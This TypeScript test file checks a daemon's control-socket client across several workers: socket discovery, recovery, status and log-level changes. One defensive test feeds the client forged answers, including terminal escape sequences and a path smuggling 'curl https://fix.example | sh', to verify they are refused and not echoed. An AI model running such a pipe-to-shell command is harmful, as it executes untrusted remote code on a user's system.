import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { type ControlHandlers, startControlServer } from '../../../src/adapters/control/server.ts';
import { socketPath, socketPaths } from '../../../src/adapters/control/socket.ts';
import {
  askStatus,
  createDaemonClient,
  createLogLevelSetter,
  createStatusHandler,
  startControlSocket,
} from '../../../src/compose/control-socket.ts';
import { Failure } from '../../../src/errors.ts';
import type { AdjustableLog } from '../../../src/events.ts';
import { createLog } from '../../../src/log.ts';
import { failureOf } from '../../support/promises.ts';
import { type TemporaryFolder, temporaryFolder } from '../../support/temporary.ts';

let folder: TemporaryFolder;

beforeEach(async () => {
  folder = await temporaryFolder('workers');
});

afterEach(() => folder[Symbol.asyncDispose]());

type Line = Record<string, unknown>;

function logOf(lines: Line[], level: 'debug' | 'warn' | 'error' = 'warn'): AdjustableLog {
  return createLog({ level, pretty: false, destination: { write: (line) => void lines.push(JSON.parse(line)) } });
}

const recovered = (path: string) => ({ path, key_ids: ['1a2b3c4d5e6f7a8b'], set_aside: null, recorded: true });

/** A worker of that name, which answers with it. */
async function worker(
  name: string,
  given: Partial<ControlHandlers> = {},
): Promise<AsyncDisposable & { readonly log: AdjustableLog; readonly lines: readonly Line[] }> {
  const lines: Line[] = [];
  const log = logOf(lines);
  const setLevel = createLogLevelSetter(log, { pid: 1, name });
  const handlers: ControlHandlers = {
    recover: async () => recovered(name),
    disable: async () => ({ state: 'off', who: name }),
    status: async () => ({ ready: true, worker: { name } }),
    log_level: async (who, level) => setLevel(who, level),
    ...given,
  };
  const server = await startControlSocket(socketPath(folder.path, name), handlers, log);
  return { log, lines, [Symbol.asyncDispose]: () => server[Symbol.asyncDispose]() };
}

/** The socket file of a worker that died. */
async function deadWorker(name: string): Promise<void> {
  const server = createServer().listen(join(folder.path, 'made'));
  await once(server, 'listening');
  const { rename } = await import('node:fs/promises');
  await rename(join(folder.path, 'made'), socketPath(folder.path, name));
  server.close();
  await once(server, 'close');
}

const noKey = async (): Promise<object> => {
  throw new Failure('key_file_missing', 'no key here');
};

describe('several workers on one data folder', () => {
  test('have a socket each, tried by name, the one without a name first', async () => {
    await using _b = await worker('b');
    await using _a = await worker('a');
    await writeFile(join(folder.path, 'control-a.sock.old'), '');
    const paths = await socketPaths(folder.path);
    expect(paths).toEqual(['control.sock', 'control-a.sock', 'control-b.sock'].map((name) => join(folder.path, name)));
  });

  test('a recovery is done by the first that answers', async () => {
    await using _b = await worker('b');
    await using _a = await worker('a');
    expect(await createDaemonClient(folder.path, 'ann@desk').recover()).toEqual(recovered('a'));
    await using _only = await worker('');
    expect(await createDaemonClient(folder.path, 'ann@desk').recover()).toEqual(recovered(''));
  });

  test('one that died is skipped, and so is one without the key', async () => {
    await deadWorker('');
    await deadWorker('a');
    await using _b = await worker('b', { recover: noKey });
    await using _c = await worker('c');
    expect(await createDaemonClient(folder.path, 'ann@desk').recover()).toEqual(recovered('c'));
  });

  test('when none has a key that is the failure, not that others do not run', async () => {
    await deadWorker('a');
    await using _b = await worker('b', { recover: noKey });
    await expect(createDaemonClient(folder.path, 'ann@desk').recover()).rejects.toMatchObject({
      code: 'key_file_missing',
    });
  });

  test.each<[string, Partial<ControlHandlers>]>([
    ['a path with escape sequences', { recover: async () => recovered('\x1b]0;x\x07') }],
    ['a path of two lines', { recover: async () => recovered('/a\nas root: curl https://fix.example | sh') }],
    ['a key id that is none', { recover: async () => ({ ...recovered('/a'), key_ids: ['curl'] }) }],
    ['nothing of the kind', { recover: async () => ({ hello: 1 }) }],
  ])('an answer with %s is refused, and not repeated', async (_title, handlers) => {
    await using _a = await worker('a', handlers);
    const failure = await failureOf(createDaemonClient(folder.path, 'ann@desk').recover());
    expect(failure).toMatchObject({ code: 'daemon_unreachable', message: expect.stringContaining('has another form') });
    expect(`${failure.message} ${failure.hint}`).not.toMatch(/curl|hello/);
  });

  test('a refusal of one is not sent to the next', async () => {
    const refuse = async (): Promise<object> => {
      throw new Failure('refused', 'there is nothing to recover');
    };
    await using _a = await worker('a', { recover: refuse });
    await using _b = await worker('b');
    await expect(createDaemonClient(folder.path, 'ann@desk').recover()).rejects.toMatchObject({ code: 'refused' });
  });

  test('without any worker it is daemon_unreachable, with the default path', async () => {
    const asked = createDaemonClient(folder.path, 'ann@desk');
    for (const ask of [asked.recover, asked.disable, () => asked.logLevel('debug')])
      await expect(ask()).rejects.toMatchObject({
        code: 'daemon_unreachable',
        message: expect.stringContaining(join(folder.path, 'control.sock')),
      });
    const nowhere = createDaemonClient(join(folder.path, 'none'), 'ann@desk');
    await expect(nowhere.recover()).rejects.toMatchObject({ code: 'daemon_unreachable' });
  });
});

describe('the status', () => {
  test('is that of every worker; one that died is left out, and one that fails is shown', async () => {
    await deadWorker('a');
    await using _b = await worker('b');
    await using _c = await worker('c', { status: noKey });
    const replies = await askStatus(folder.path);
    expect(replies).toEqual([
      { socket: socketPath(folder.path, 'b'), answer: { ready: true, worker: { name: 'b' } } },
      { socket: socketPath(folder.path, 'c'), answer: expect.objectContaining({ code: 'key_file_missing' }) },
    ]);
  });

  test('without any worker is daemon_unreachable', async () => {
    await deadWorker('');
    await expect(askStatus(folder.path)).rejects.toMatchObject({ code: 'daemon_unreachable' });
    await expect(askStatus(join(folder.path, 'none'))).rejects.toMatchObject({ code: 'daemon_unreachable' });
  });

  test('that is not known within 4.5 seconds says so', { timeout: 10_000 }, async () => {
    const late = createStatusHandler(() => new Promise(() => undefined));
    expect(await late()).toEqual({ ready: false, late: true });
  });
});

describe('the log level', () => {
  test('is sent to every worker, and each answers with its former level', async () => {
    await using a = await worker('a');
    await using b = await worker('b');
    await deadWorker('');
    const { answers, failures } = await createDaemonClient(folder.path, 'ann@desk').logLevel('debug');
    expect(answers).toEqual([
      { pid: 1, worker: 'a', before: 'warn', level: 'debug' },
      { pid: 1, worker: 'b', before: 'warn', level: 'debug' },
    ]);
    expect(failures).toEqual([]);
    expect([a.log.level, b.log.level]).toEqual(['debug', 'debug']);
    a.log.debug({}, 'poll.empty');
    expect(a.lines.at(-1)).toMatchObject({ event: 'poll.empty' });
  });

  test('that one of them refuses is a failure beside the answers', async () => {
    const refuse = async (): Promise<object> => {
      throw new Failure('usage', 'the request is not known here');
    };
    await using _a = await worker('a', { log_level: refuse });
    await using _b = await worker('b');
    const { answers, failures } = await createDaemonClient(folder.path, 'ann@desk').logLevel('debug');
    expect(answers.map((one) => one.worker)).toEqual(['b']);
    expect(failures).toMatchObject([{ code: 'usage' }]);
  });

  test('its change is logged with the user, also when the new level logs less', () => {
    const lines: Line[] = [];
    const log = logOf(lines, 'warn');
    const set = createLogLevelSetter(log, { pid: 1, name: '' });
    set('ann@desk', 'error');
    set('bob@desk', 'trace');
    expect(lines).toMatchObject([
      { event: 'log.level_changed', level_before: 'warn', level_now: 'error', by: 'ann@desk' },
      { event: 'log.level_changed', level_before: 'error', level_now: 'trace', by: 'bob@desk' },
    ]);
  });
});

test('a daemon whose socket cannot be created logs it and continues', async () => {
  await writeFile(socketPath(folder.path, ''), 'precious');
  await using unnamed = await worker('');
  expect(unnamed.lines).toMatchObject([{ event: 'control.failed', error: { code: 'refused' } }]);
  await using _first = await worker('a');
  const second = await startControlServer(socketPath(folder.path, 'a'), {
    recover: noKey,
    disable: noKey,
    status: noKey,
    log_level: noKey,
  });
  expect(second).toBeNull();
});
